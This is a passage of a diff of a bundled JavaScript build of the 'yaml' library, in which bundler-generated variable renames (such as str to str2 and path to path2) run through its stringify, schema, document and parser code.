         } else if (chompKeep && onChompKeep)
           onChompKeep();
-        return str;
+        return str2;
       }
       if (keyCommentDone)
         keyComment = null;
       if (explicitKey) {
         if (keyComment)
-          str += stringifyComment.lineComment(str, ctx.indent, commentString(keyComment));
-        str = `? ${str}
+          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
+        str2 = `? ${str2}
 ${indent}:`;
       } else {
-        str = `${str}:`;
+        str2 = `${str2}:`;
         if (keyComment)
-          str += stringifyComment.lineComment(str, ctx.indent, commentString(keyComment));
+          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
       }
       let vsb, vcb, valueComment;
       if (identity.isNode(value)) {
@@ -10293,7 +10293,7 @@ ${indent}:`;
       }
       ctx.implicitKey = false;
       if (!explicitKey && !keyComment && identity.isScalar(value))
-        ctx.indentAtStart = str.length + 1;
+        ctx.indentAtStart = str2.length + 1;
       chompKeep = false;
       if (!indentSeq && indentStep.length >= 2 && !ctx.inFlow && !explicitKey && identity.isSeq(value) && !value.flow && !value.tag && !value.anchor) {
         ctx.indent = ctx.indent.substring(2);
@@ -10337,16 +10337,16 @@ ${ctx.indent}`;
       } else if (valueStr === "" || valueStr[0] === "\n") {
         ws = "";
       }
-      str += ws + valueStr;
+      str2 += ws + valueStr;
       if (ctx.inFlow) {
         if (valueCommentDone && onComment)
           onComment();
       } else if (valueComment && !valueCommentDone) {
-        str += stringifyComment.lineComment(str, ctx.indent, commentString(valueComment));
+        str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(valueComment));
       } else if (chompKeep && onChompKeep) {
         onChompKeep();
       }
-      return str;
+      return str2;
     }
     exports.stringifyPair = stringifyPair;
   }
@@ -10357,9 +10357,9 @@ var require_log = __commonJS({
   "node_modules/yaml/dist/log.js"(exports) {
     "use strict";
     var node_process = __require("process");
-    function debug(logLevel, ...messages) {
+    function debug2(logLevel, ...messages2) {
       if (logLevel === "debug")
-        console.log(...messages);
+        console.log(...messages2);
     }
     function warn(logLevel, warning) {
       if (logLevel === "debug" || logLevel === "warn") {
@@ -10369,7 +10369,7 @@ var require_log = __commonJS({
           console.warn(warning);
       }
     }
-    exports.debug = debug;
+    exports.debug = debug2;
     exports.warn = warn;
   }
 });
@@ -10573,31 +10573,31 @@ var require_stringifyCollection = __commonJS({
           }
         }
         chompKeep = false;
-        let str2 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
+        let str3 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
         if (comment2)
-          str2 += stringifyComment.lineComment(str2, itemIndent, commentString(comment2));
+          str3 += stringifyComment.lineComment(str3, itemIndent, commentString(comment2));
         if (chompKeep && comment2)
           chompKeep = false;
-        lines.push(blockItemPrefix + str2);
+        lines.push(blockItemPrefix + str3);
       }
-      let str;
+      let str2;
       if (lines.length === 0) {
-        str = flowChars.start + flowChars.end;
+        str2 = flowChars.start + flowChars.end;
       } else {
-        str = lines[0];
+        str2 = lines[0];
         for (let i2 = 1; i2 < lines.length; ++i2) {
           const line = lines[i2];
-          str += line ? `
+          str2 += line ? `
 ${indent}${line}` : "\n";
         }
       }
       if (comment) {
-        str += "\n" + stringifyComment.indentComment(commentString(comment), indent);
+        str2 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
         if (onComment)
           onComment();
       } else if (chompKeep && onChompKeep)
         onChompKeep();
-      return str;
+      return str2;
     }
     function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
       const { indent, indentStep, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
@@ -10640,21 +10640,21 @@ ${indent}${line}` : "\n";
         }
         if (comment)
           reqNewline = true;
-        let str = stringify.stringify(item, itemCtx, () => comment = null);
-        reqNewline || (reqNewline = lines.length > linesAtValue || str.includes("\n"));
+        let str2 = stringify.stringify(item, itemCtx, () => comment = null);
+        reqNewline || (reqNewline = lines.length > linesAtValue || str2.includes("\n"));
         if (i2 < items.length - 1) {
-          str += ",";
+          str2 += ",";
         } else if (ctx.options.trailingComma) {
           if (ctx.options.lineWidth > 0) {
-            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str.length + 2) > ctx.options.lineWidth);
+            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str2.length + 2) > ctx.options.lineWidth);
           }
           if (reqNewline) {
-            str += ",";
+            str2 += ",";
           }
         }
         if (comment)
-          str += stringifyComment.lineComment(str, itemIndent, commentString(comment));
-        lines.push(str);
+          str2 += stringifyComment.lineComment(str2, itemIndent, commentString(comment));
+        lines.push(str2);
         linesAtValue = lines.length;
       }
       const { start: start2, end } = flowChars;
@@ -10666,11 +10666,11 @@ ${indent}${line}` : "\n";
           reqNewline = ctx.options.lineWidth > 0 && len > ctx.options.lineWidth;
         }
         if (reqNewline) {
-          let str = start2;
+          let str2 = start2;
           for (const line of lines)
-            str += line ? `
+            str2 += line ? `
 ${indentStep}${indent}${line}` : "\n";
-          return `${str}
+          return `${str2}
 ${indent}${end}`;
         } else {
           return `${start2}${fcPadding}${lines.join(" ")}${fcPadding}${end}`;
@@ -11002,7 +11002,7 @@ var require_string = __commonJS({
       identify: (value) => typeof value === "string",
       default: true,
       tag: "tag:yaml.org,2002:str",
-      resolve: (str) => str,
+      resolve: (str2) => str2,
       stringify(item, ctx, onComment, onChompKeep) {
         ctx = Object.assign({ actualString: true }, ctx);
         return stringifyString.stringifyString(item, ctx, onComment, onChompKeep);
@@ -11040,7 +11040,7 @@ var require_bool = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:bool",
       test: /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,
-      resolve: (str) => new Scalar.Scalar(str[0] === "t" || str[0] === "T"),
+      resolve: (str2) => new Scalar.Scalar(str2[0] === "t" || str2[0] === "T"),
       stringify({ source, value }, ctx) {
         if (source && boolTag.test.test(source)) {
           const sv = source[0] === "t" || source[0] === "T";
@@ -11058,14 +11058,14 @@ var require_bool = __commonJS({
 var require_stringifyNumber = __commonJS({
   "node_modules/yaml/dist/stringify/stringifyNumber.js"(exports) {
     "use strict";
-    function stringifyNumber({ format, minFractionDigits, tag, value }) {
+    function stringifyNumber({ format: format2, minFractionDigits, tag, value }) {
       if (typeof value === "bigint")
         return String(value);
       const num = typeof value === "number" ? value : Number(value);
       if (!isFinite(num))
         return isNaN(num) ? ".nan" : num < 0 ? "-.inf" : ".inf";
       let n = Object.is(value, -0) ? "-0" : JSON.stringify(value);
-      if (!format && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n) && !n.includes("e")) {
+      if (!format2 && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n) && !n.includes("e")) {
         let i2 = n.indexOf(".");
         if (i2 < 0) {
           i2 = n.length;
@@ -11092,7 +11092,7 @@ var require_float = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
-      resolve: (str) => str.slice(-3).toLowerCase() === "nan" ? NaN : str[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      resolve: (str2) => str2.slice(-3).toLowerCase() === "nan" ? NaN : str2[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
       stringify: stringifyNumber.stringifyNumber
     };
     var floatExp = {
@@ -11101,7 +11101,7 @@ var require_float = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "EXP",
       test: /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,
-      resolve: (str) => parseFloat(str),
+      resolve: (str2) => parseFloat(str2),
       stringify(node) {
         const num = Number(node.value);
         return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
@@ -11112,11 +11112,11 @@ var require_float = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
-      resolve(str) {
-        const node = new Scalar.Scalar(parseFloat(str));
-        const dot = str.indexOf(".");
-        if (dot !== -1 && str[str.length - 1] === "0")
-          node.minFractionDigits = str.length - dot - 1;
+      resolve(str2) {
+        const node = new Scalar.Scalar(parseFloat(str2));
+        const dot = str2.indexOf(".");
+        if (dot !== -1 && str2[str2.length - 1] === "0")
+          node.minFractionDigits = str2.length - dot - 1;
         return node;
       },
       stringify: stringifyNumber.stringifyNumber
@@ -11133,7 +11133,7 @@ var require_int = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
-    var intResolve = (str, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str) : parseInt(str.substring(offset), radix);
+    var intResolve = (str2, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str2) : parseInt(str2.substring(offset), radix);
     function intStringify(node, radix, prefix) {
       const { value } = node;
       if (intIdentify(value) && value >= 0)
@@ -11146,7 +11146,7 @@ var require_int = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "OCT",
       test: /^0o[0-7]+$/,
-      resolve: (str, _onError, opt) => intResolve(str, 2, 8, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 8, opt),
       stringify: (node) => intStringify(node, 8, "0o")
     };
     var int = {
@@ -11154,7 +11154,7 @@ var require_int = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:int",
       test: /^[-+]?[0-9]+$/,
-      resolve: (str, _onError, opt) => intResolve(str, 0, 10, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 0, 10, opt),
       stringify: stringifyNumber.stringifyNumber
     };
     var intHex = {
@@ -11163,7 +11163,7 @@ var require_int = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "HEX",
       test: /^0x[0-9a-fA-F]+$/,
-      resolve: (str, _onError, opt) => intResolve(str, 2, 16, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 16, opt),
       stringify: (node) => intStringify(node, 16, "0x")
     };
     exports.int = int;
@@ -11216,7 +11216,7 @@ var require_schema2 = __commonJS({
         identify: (value) => typeof value === "string",
         default: true,
         tag: "tag:yaml.org,2002:str",
-        resolve: (str) => str,
+        resolve: (str2) => str2,
         stringify: stringifyJSON
       },
       {
@@ -11233,7 +11233,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:bool",
         test: /^true$|^false$/,
-        resolve: (str) => str === "true",
+        resolve: (str2) => str2 === "true",
         stringify: stringifyJSON
       },
       {
@@ -11241,7 +11241,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:int",
         test: /^-?(?:0|[1-9][0-9]*)$/,
-        resolve: (str, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str) : parseInt(str, 10),
+        resolve: (str2, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str2) : parseInt(str2, 10),
         stringify: ({ value }) => intIdentify(value) ? value.toString() : JSON.stringify(value)
       },
       {
@@ -11249,7 +11249,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:float",
         test: /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
-        resolve: (str) => parseFloat(str),
+        resolve: (str2) => parseFloat(str2),
         stringify: stringifyJSON
       }
     ];
@@ -11257,9 +11257,9 @@ var require_schema2 = __commonJS({
       default: true,
       tag: "",
       test: /^/,
-      resolve(str, onError) {
-        onError(`Unresolved plain scalar ${JSON.stringify(str)}`);
-        return str;
+      resolve(str2, onError) {
+        onError(`Unresolved plain scalar ${JSON.stringify(str2)}`);
+        return str2;
       }
     };
     var schema = [map.map, seq.seq].concat(jsonScalars, jsonError);
@@ -11291,10 +11291,10 @@ var require_binary = __commonJS({
         if (typeof node_buffer.Buffer === "function") {
           return node_buffer.Buffer.from(src, "base64");
         } else if (typeof atob === "function") {
-          const str = atob(src.replace(/[\n\r]/g, ""));
-          const buffer = new Uint8Array(str.length);
-          for (let i2 = 0; i2 < str.length; ++i2)
-            buffer[i2] = str.charCodeAt(i2);
+          const str2 = atob(src.replace(/[\n\r]/g, ""));
+          const buffer = new Uint8Array(str2.length);
+          for (let i2 = 0; i2 < str2.length; ++i2)
+            buffer[i2] = str2.charCodeAt(i2);
           return buffer;
         } else {
           onError("This environment does not support reading binary tags; either Buffer or atob is required");
@@ -11305,28 +11305,28 @@ var require_binary = __commonJS({
         if (!value)
           return "";
         const buf = value;
-        let str;
+        let str2;
         if (typeof node_buffer.Buffer === "function") {
-          str = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
+          str2 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
         } else if (typeof btoa === "function") {
           let s = "";
           for (let i2 = 0; i2 < buf.length; ++i2)
             s += String.fromCharCode(buf[i2]);
-          str = btoa(s);
+          str2 = btoa(s);
         } else {
           throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");
         }
         type ?? (type = Scalar.Scalar.BLOCK_LITERAL);
         if (type !== Scalar.Scalar.QUOTE_DOUBLE) {
           const lineWidth = Math.max(ctx.options.lineWidth - ctx.indent.length, ctx.options.minContentWidth);
-          const n = Math.ceil(str.length / lineWidth);
+          const n = Math.ceil(str2.length / lineWidth);
           const lines = new Array(n);
           for (let i2 = 0, o = 0; i2 < n; ++i2, o += lineWidth) {
-            lines[i2] = str.substr(o, lineWidth);
+            lines[i2] = str2.substr(o, lineWidth);
           }
-          str = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
+          str2 = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
         }
-        return stringifyString.stringifyString({ comment, type, value: str }, ctx, onComment, onChompKeep);
+        return stringifyString.stringifyString({ comment, type, value: str2 }, ctx, onComment, onChompKeep);
       }
     };
     exports.binary = binary2;
@@ -11532,7 +11532,7 @@ var require_float2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
-      resolve: (str) => str.slice(-3).toLowerCase() === "nan" ? NaN : str[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      resolve: (str2) => str2.slice(-3).toLowerCase() === "nan" ? NaN : str2[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
       stringify: stringifyNumber.stringifyNumber
     };
     var floatExp = {
@@ -11541,7 +11541,7 @@ var require_float2 = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "EXP",
       test: /^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,
-      resolve: (str) => parseFloat(str.replace(/_/g, "")),
+      resolve: (str2) => parseFloat(str2.replace(/_/g, "")),
       stringify(node) {
         const num = Number(node.value);
         return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
@@ -11552,11 +11552,11 @@ var require_float2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,
-      resolve(str) {
-        const node = new Scalar.Scalar(parseFloat(str.replace(/_/g, "")));
-        const dot = str.indexOf(".");
+      resolve(str2) {
+        const node = new Scalar.Scalar(parseFloat(str2.replace(/_/g, "")));
+        const dot = str2.indexOf(".");
         if (dot !== -1) {
-          const f = str.substring(dot + 1).replace(/_/g, "");
+          const f = str2.substring(dot + 1).replace(/_/g, "");
           if (f[f.length - 1] === "0")
             node.minFractionDigits = f.length;
         }
@@ -11576,34 +11576,34 @@ var require_int2 = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
-    function intResolve(str, offset, radix, { intAsBigInt }) {
-      const sign = str[0];
+    function intResolve(str2, offset, radix, { intAsBigInt }) {
+      const sign = str2[0];
       if (sign === "-" || sign === "+")
         offset += 1;
-      str = str.substring(offset).replace(/_/g, "");
+      str2 = str2.substring(offset).replace(/_/g, "");
       if (intAsBigInt) {
         switch (radix) {
           case 2:
-            str = `0b${str}`;
+            str2 = `0b${str2}`;
             break;
           case 8:
-            str = `0o${str}`;
+            str2 = `0o${str2}`;
             break;
           case 16:
-            str = `0x${str}`;
+            str2 = `0x${str2}`;
             break;
         }
-        const n2 = BigInt(str);
+        const n2 = BigInt(str2);
         return sign === "-" ? BigInt(-1) * n2 : n2;
       }
-      const n = parseInt(str, radix);
+      const n = parseInt(str2, radix);
       return sign === "-" ? -1 * n : n;
     }
     function intStringify(node, radix, prefix) {
       const { value } = node;
       if (intIdentify(value)) {
-        const str = value.toString(radix);
-        return value < 0 ? "-" + prefix + str.substr(1) : prefix + str;
+        const str2 = value.toString(radix);
+        return value < 0 ? "-" + prefix + str2.substr(1) : prefix + str2;
       }
       return stringifyNumber.stringifyNumber(node);
     }
@@ -11613,7 +11613,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "BIN",
       test: /^[-+]?0b[0-1_]+$/,
-      resolve: (str, _onError, opt) => intResolve(str, 2, 2, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 2, opt),
       stringify: (node) => intStringify(node, 2, "0b")
     };
     var intOct = {
@@ -11622,7 +11622,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "OCT",
       test: /^[-+]?0[0-7_]+$/,
-      resolve: (str, _onError, opt) => intResolve(str, 1, 8, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 1, 8, opt),
       stringify: (node) => intStringify(node, 8, "0")
     };
     var int = {
@@ -11630,7 +11630,7 @@ var require_int2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:int",
       test: /^[-+]?[0-9][0-9_]*$/,
-      resolve: (str, _onError, opt) => intResolve(str, 0, 10, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 0, 10, opt),
       stringify: stringifyNumber.stringifyNumber
     };
     var intHex = {
@@ -11639,7 +11639,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "HEX",
       test: /^[-+]?0x[0-9a-fA-F_]+$/,
-      resolve: (str, _onError, opt) => intResolve(str, 2, 16, opt),
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 16, opt),
       stringify: (node) => intStringify(node, 16, "0x")
     };
     exports.int = int;
@@ -11743,9 +11743,9 @@ var require_timestamp = __commonJS({
   "node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports) {
     "use strict";
     var stringifyNumber = require_stringifyNumber();
-    function parseSexagesimal(str, asBigInt) {
-      const sign = str[0];
-      const parts2 = sign === "-" || sign === "+" ? str.substring(1) : str;
+    function parseSexagesimal(str2, asBigInt) {
+      const sign = str2[0];
+      const parts2 = sign === "-" || sign === "+" ? str2.substring(1) : str2;
       const num = (n) => asBigInt ? BigInt(n) : Number(n);
       const res = parts2.replace(/_/g, "").split(":").reduce((res2, p) => res2 * num(60) + num(p), num(0));
       return sign === "-" ? num(-1) * res : res;
@@ -11782,7 +11782,7 @@ var require_timestamp = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "TIME",
       test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,
-      resolve: (str, _onError, { intAsBigInt }) => parseSexagesimal(str, intAsBigInt),
+      resolve: (str2, _onError, { intAsBigInt }) => parseSexagesimal(str2, intAsBigInt),
       stringify: stringifySexagesimal
     };
     var floatTime = {
@@ -11791,7 +11791,7 @@ var require_timestamp = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "TIME",
       test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,
-      resolve: (str) => parseSexagesimal(str, false),
+      resolve: (str2) => parseSexagesimal(str2, false),
       stringify: stringifySexagesimal
     };
     var timestamp = {
@@ -11802,8 +11802,8 @@ var require_timestamp = __commonJS({
       // may be omitted altogether, resulting in a date format. In such a case, the time part is
       // assumed to be 00:00:00Z (start of day, UTC).
       test: RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),
-      resolve(str) {
-        const match = str.match(timestamp.test);
+      resolve(str2) {
+        const match = str2.match(timestamp.test);
         if (!match)
           throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");
         const [, year, month, day, hour, minute, second] = match.map(Number);
@@ -12154,9 +12154,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path, value) {
+      addIn(path2, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path, value);
+          this.contents.addIn(path2, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -12231,14 +12231,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path) {
-        if (Collection.isEmptyPath(path)) {
+      deleteIn(path2) {
+        if (Collection.isEmptyPath(path2)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path2) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -12253,10 +12253,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path, keepScalar) {
-        if (Collection.isEmptyPath(path))
+      getIn(path2, keepScalar) {
+        if (Collection.isEmptyPath(path2))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path2, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -12267,10 +12267,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path) {
-        if (Collection.isEmptyPath(path))
+      hasIn(path2) {
+        if (Collection.isEmptyPath(path2))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path2) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -12287,13 +12287,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path, value) {
-        if (Collection.isEmptyPath(path)) {
+      setIn(path2, value) {
+        if (Collection.isEmptyPath(path2)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path2), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path, value);
+          this.contents.setIn(path2, value);
         }
       }
       /**
@@ -12877,9 +12877,9 @@ var require_resolve_flow_collection = __commonJS({
     var blockMsg = "Block collections are not allowed within flow collections";
     var isBlock = (token) => token && (token.type === "block-map" || token.type === "block-seq");
     function resolveFlowCollection({ composeNode, composeEmptyNode }, ctx, fc, onError, tag) {
-      const isMap = fc.start.source === "{";
-      const fcName = isMap ? "flow map" : "flow sequence";
-      const NodeClass = tag?.nodeClass ?? (isMap ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
+      const isMap2 = fc.start.source === "{";
+      const fcName = isMap2 ? "flow map" : "flow sequence";
+      const NodeClass = tag?.nodeClass ?? (isMap2 ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
       const coll = new NodeClass(ctx.schema);
       coll.flow = true;
       const atRoot = ctx.atRoot;
@@ -12915,7 +12915,7 @@ var require_resolve_flow_collection = __commonJS({
             offset = props.end;
             continue;
           }
-          if (!isMap && ctx.options.strict && utilContainsNewline.containsNewline(key))
+          if (!isMap2 && ctx.options.strict && utilContainsNewline.containsNewline(key))
             onError(
               key,
               // checked by containsNewline()
@@ -12955,7 +12955,7 @@ var require_resolve_flow_collection = __commonJS({
             }
           }
         }
-        if (!isMap && !sep2 && !props.found) {
+        if (!isMap2 && !sep2 && !props.found) {
           const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep2, null, props, onError);
           coll.items.push(valueNode);
           offset = valueNode.range[2];
@@ -12978,7 +12978,7 @@ var require_resolve_flow_collection = __commonJS({
             startOnNewline: false
           });
           if (valueProps.found) {
-            if (!isMap && !props.found && ctx.options.strict) {
+            if (!isMap2 && !props.found && ctx.options.strict) {
               if (sep2)
                 for (const st of sep2) {
                   if (st === valueProps.found)
@@ -13010,7 +13010,7 @@ var require_resolve_flow_collection = __commonJS({
           const pair = new Pair.Pair(keyNode, valueNode);
           if (ctx.options.keepSourceTokens)
             pair.srcToken = collItem;
-          if (isMap) {
+          if (isMap2) {
             const map = coll;
             if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
               onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
@@ -13026,7 +13026,7 @@ var require_resolve_flow_collection = __commonJS({
           offset = valueNode ? valueNode.range[2] : valueProps.end;
         }
       }
-      const expectedEnd = isMap ? "}" : "]";
+      const expectedEnd = isMap2 ? "}" : "]";
       const [ce, ...ee] = fc.end;
       let cePos = offset;
       if (ce?.source === expectedEnd)
@@ -14246,18 +14246,18 @@ var require_cst_visit = __commonJS({
     var BREAK = /* @__PURE__ */ Symbol("break visit");
     var SKIP = /* @__PURE__ */ Symbol("skip children");
     var REMOVE = /* @__PURE__ */ Symbol("remove item");
-    function visit(cst, visitor) {
+    function visit2(cst, visitor) {
       if ("type" in cst && cst.type === "document")
         cst = { start: cst.start, value: cst.value };
       _visit(Object.freeze([]), cst, visitor);
     }
-    visit.BREAK = BREAK;
-    visit.SKIP = SKIP;
-    visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path) => {
+    visit2.BREAK = BREAK;
+    visit2.SKIP = SKIP;
+    visit2.REMOVE = REMOVE;
+    visit2.itemAtPath = (cst, path2) => {
       let item = cst;
-      for (const [field, index] of path) {
-        const tok = item?.[field];
+      for (const [field3, index] of path2) {
+        const tok = item?.[field3];
         if (tok && "items" in tok) {
           item = tok.items[index];
         } else
@@ -14265,23 +14265,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path) => {
-      const parent = visit.itemAtPath(cst, path.slice(0, -1));
-      const field = path[path.length - 1][0];
-      const coll = parent?.[field];
+    visit2.parentCollection = (cst, path2) => {
+      const parent = visit2.itemAtPath(cst, path2.slice(0, -1));
+      const field3 = path2[path2.length - 1][0];
+      const coll = parent?.[field3];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path, item, visitor) {
-      let ctrl = visitor(item, path);
+    function _visit(path2, item, visitor) {
+      let ctrl = visitor(item, path2);
       if (typeof ctrl === "symbol")
         return ctrl;
-      for (const field of ["key", "value"]) {
-        const token = item[field];
+      for (const field3 of ["key", "value"]) {
+        const token = item[field3];
         if (token && "items" in token) {
           for (let i2 = 0; i2 < token.items.length; ++i2) {
-            const ci = _visit(Object.freeze(path.concat([[field, i2]])), token.items[i2], visitor);
+            const ci = _visit(Object.freeze(path2.concat([[field3, i2]])), token.items[i2], visitor);
             if (typeof ci === "number")
               i2 = ci - 1;
             else if (ci === BREAK)
@@ -14291,13 +14291,13 @@ var require_cst_visit = __commonJS({
               i2 -= 1;
             }
           }
-          if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path);
+          if (typeof ctrl === "function" && field3 === "key")
+            ctrl = ctrl(item, path2);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path2) : ctrl;
     }
-    exports.visit = visit;
+    exports.visit = visit2;
   }
 });
 
@@ -14313,7 +14313,7 @@ var require_cst = __commonJS({
     var FLOW_END = "";
     var SCALAR = "";
     var isCollection = (token) => !!token && "items" in token;
-    var isScalar = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
+    var isScalar2 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
     function prettyToken(token) {
       switch (token) {
         case BOM:
@@ -14397,7 +14397,7 @@ var require_cst = __commonJS({
     exports.FLOW_END = FLOW_END;
     exports.SCALAR = SCALAR;
     exports.isCollection = isCollection;
-    exports.isScalar = isScalar;
+    exports.isScalar = isScalar2;
     exports.prettyToken = prettyToken;
     exports.tokenType = tokenType;
   }
@@ -15030,15 +15030,15 @@ var require_parser = __commonJS({
     var node_process = __require("process");
     var cst = require_cst();
     var lexer = require_lexer();
-    function includesToken(list, type) {
-      for (let i2 = 0; i2 < list.length; ++i2)
-        if (list[i2].type === type)
+    function includesToken(list2, type) {
+      for (let i2 = 0; i2 < list2.length; ++i2)
+        if (list2[i2].type === type)
           return true;
       return false;
     }
-    function findNonEmptyIndex(list) {
-      for (let i2 = 0; i2 < list.length; ++i2) {
-        switch (list[i2].type) {
+    function findNonEmptyIndex(list2) {
+      for (let i2 = 0; i2 < list2.length; ++i2) {
+        switch (list2[i2].type) {
           case "space":
           case "comment":
           case "newline":
